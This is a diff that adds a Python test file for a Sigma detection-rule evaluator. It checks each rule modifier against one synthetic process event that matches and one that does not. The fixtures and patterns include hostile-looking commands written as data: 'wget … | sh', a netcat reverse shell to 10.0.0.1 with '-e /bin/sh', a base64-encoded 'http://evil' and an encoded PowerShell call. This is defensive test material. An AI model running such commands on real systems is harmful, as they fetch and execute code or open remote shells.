@@ -1,0 +1,129 @@
+"""Sigma rules (our own, written in SigmaHQ's format) evaluated on our events: every modifier
+and condition form with an event that matches and one that does not, Windows and Linux,
+arguments that are not UTF-8, and what `sigma check` reports."""
+
+from __future__ import annotations
+
+import copy
+import json
+
+import pytest
+
+from collector.sigma.rules import load
+from common import bench, qlog
+from tests.conftest import run_cli, seed_qlog_example
+
+
+def linux(executable: str, args: list, parent: str = "/usr/bin/bash", **process) -> dict:
+    event = copy.deepcopy(bench.varied_events(1)[0])
+    event["process"].update(executable=executable, args=args, **process)
+    event["process"].pop("command_line", None)
+    event["process"]["parent"]["executable"] = parent
+    return event
+
+
+def windows(command_line: str, image: str = "C:\\Windows\\System32\\cmd.exe") -> dict:
+    event = qlog.read_event(json.loads(seed_qlog_example()))
+    event["process"].update(executable=image, command_line=command_line)
+    return event
+
+
+def rule(tmp_path, name: str, detection: str, product: str = "linux") -> str:
+    path = tmp_path / f"{name}.yml"
+    path.write_text(f"""title: {name}
+id: 00000000-0000-4000-8000-{abs(hash(name)) % 10**12:012d}
+status: test
+level: high
+tags: [attack.execution, attack.t1059.004]
+logsource:
+    category: process_creation
+    product: {product}
+detection:
+{detection}
+""")
+    return str(path)
+
+
+def one(tmp_path, name: str, detection: str, product: str = "linux"):
+    loaded = load([rule(tmp_path, name, detection, product)])
+    assert not loaded.problems, loaded.problems
+    [compiled] = loaded.rules
+    return compiled.matches
+
+
+CASES = [
+    ("plain", "    sel:\n        Image: /usr/bin/CURL\n    condition: sel",
+     linux("/usr/bin/curl", ["curl"]), linux("/usr/bin/curly", ["curly"])),
+    ("contains", "    sel:\n        CommandLine|contains: ' -o /tmp/'\n    condition: sel",
+     linux("/usr/bin/curl", ["curl", "-o", "/tmp/x"]), linux("/usr/bin/curl", ["curl", "-O"])),
+    ("startswith", "    sel:\n        Image|startswith: /tmp/\n    condition: sel",
+     linux("/tmp/x", ["x"]), linux("/usr/tmp/x", ["x"])),
+    ("endswith", "    sel:\n        ParentImage|endswith: /python3\n    condition: sel",
+     linux("/bin/sh", ["sh"], parent="/usr/bin/python3"), linux("/bin/sh", ["sh"])),
+    ("all", "    sel:\n        CommandLine|contains|all:\n            - wget\n            - '| sh'\n"
+            "    condition: sel",
+     linux("/bin/sh", ["sh", "-c", "wget -qO- x | sh"]), linux("/bin/sh", ["sh", "-c", "wget x"])),
+    ("re", "    sel:\n        CommandLine|re: 'nc(at)? .*-e '\n    condition: sel",
+     linux("/bin/nc", ["nc", "10.0.0.1", "-e", "/bin/sh"]), linux("/bin/nc", ["nc", "-l"])),
+    ("cidr", "    sel:\n        CommandLine|cidr: 10.0.0.0/8\n    condition: sel",
+     linux("/bin/x", ["10.1.2.3"], command_line="10.1.2.3"),
+     linux("/bin/x", ["11.1.2.3"], command_line="11.1.2.3")),
+    ("base64offset", "    sel:\n        CommandLine|base64offset|contains: 'http://'\n"
+                     "    condition: sel",
+     linux("/bin/sh", ["sh", "-c", "echo aHR0cDovL2V2aWw= | base64 -d"]),
+     linux("/bin/sh", ["sh", "-c", "echo aGVsbG8= | base64 -d"])),
+    ("one_of", "    sel_a:\n        Image|endswith: /curl\n    sel_b:\n        Image|endswith: /wget\n"
+               "    condition: 1 of sel_*",
+     linux("/usr/bin/wget", ["wget"]), linux("/usr/bin/tar", ["tar"])),
+    ("all_of", "    sel_a:\n        Image|endswith: /curl\n    sel_b:\n"
+               "        CommandLine|contains: insecure\n    condition: all of sel_*",
+     linux("/usr/bin/curl", ["curl", "--insecure"]), linux("/usr/bin/curl", ["curl"])),
+    ("not", "    sel:\n        Image|endswith: /sudo\n    filter:\n        User: root\n"
+            "    condition: sel and not filter",
+     linux("/usr/bin/sudo", ["sudo"], user={"id": "1000", "name": "alice"}),
+     linux("/usr/bin/sudo", ["sudo"], user={"id": "0", "name": "root"})),
+    ("non_utf8", "    sel:\n        CommandLine|contains: '%FF%FE'\n    condition: sel",
+     linux("/bin/x", ["x", b"\xff\xferaw"]), linux("/bin/x", ["x", "raw"])),
+]
+
+
+@pytest.mark.parametrize("name, detection, hit, miss", CASES, ids=[c[0] for c in CASES])
+def test_each_modifier_and_condition_on_linux(tmp_path, name, detection, hit, miss) -> None:
+    matches = one(tmp_path, name, detection)
+    assert matches(hit) and not matches(miss)
+
+
+def test_windash_and_windows_fields(tmp_path) -> None:
+    matches = one(tmp_path, "windash", "    sel:\n        Image|endswith: '\\powershell.exe'\n"
+                  "        CommandLine|windash|contains: ' -enc '\n"
+                  "        IntegrityLevel: Medium\n    condition: sel", product="windows")
+    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+    assert matches(windows("powershell /enc AAAA", ps))         # the slash form too
+    assert matches(windows("powershell -enc AAAA", ps))
+    assert not matches(windows("powershell -nop", ps))
+    assert not matches(windows("cmd /enc AAAA"))                 # another image
+    user = one(tmp_path, "user", "    sel:\n        User|endswith: '\\TestUser'\n"
+               "        Hashes|contains: 'IMPHASH=CA88689695B1E2B1E2A85FC73742E524'\n"
+               "    condition: sel", product="windows")
+    assert user(qlog.read_event(json.loads(seed_qlog_example())))
+
+
+def test_what_cannot_be_evaluated_is_reported_and_the_rest_loads(tmp_path) -> None:
+    good = rule(tmp_path, "good", "    sel:\n        Image|endswith: /curl\n    condition: sel")
+    field = rule(tmp_path, "field", "    sel:\n        ImageLoaded|endswith: .dll\n"
+                                    "    condition: sel")
+    broken = tmp_path / "broken.yml"
+    broken.write_text("title: broken\ndetection: [unclosed\n")
+    other = tmp_path / "other.yml"
+    other.write_text("title: dns\nlogsource:\n    category: dns_query\n    product: windows\n"
+                     "detection:\n    sel:\n        QueryName: x\n    condition: sel\n")
+    loaded = load([str(tmp_path)])
+    assert [r.path for r in loaded.rules] == [good]
+    assert loaded.skipped == 1
+    why = {p.path: p.why for p in loaded.problems}
+    assert "ImageLoaded" in why[field] and str(broken) in why
+    result = run_cli("sigma", "check", str(tmp_path))
+    assert result.returncode == 1
+    assert "1 rules to evaluate, 1 for other log sources, 2 problems" in result.stderr
+    assert "ImageLoaded" in result.stdout and "broken.yml" in result.stdout
+    assert run_cli("sigma", "check", good).returncode == 0
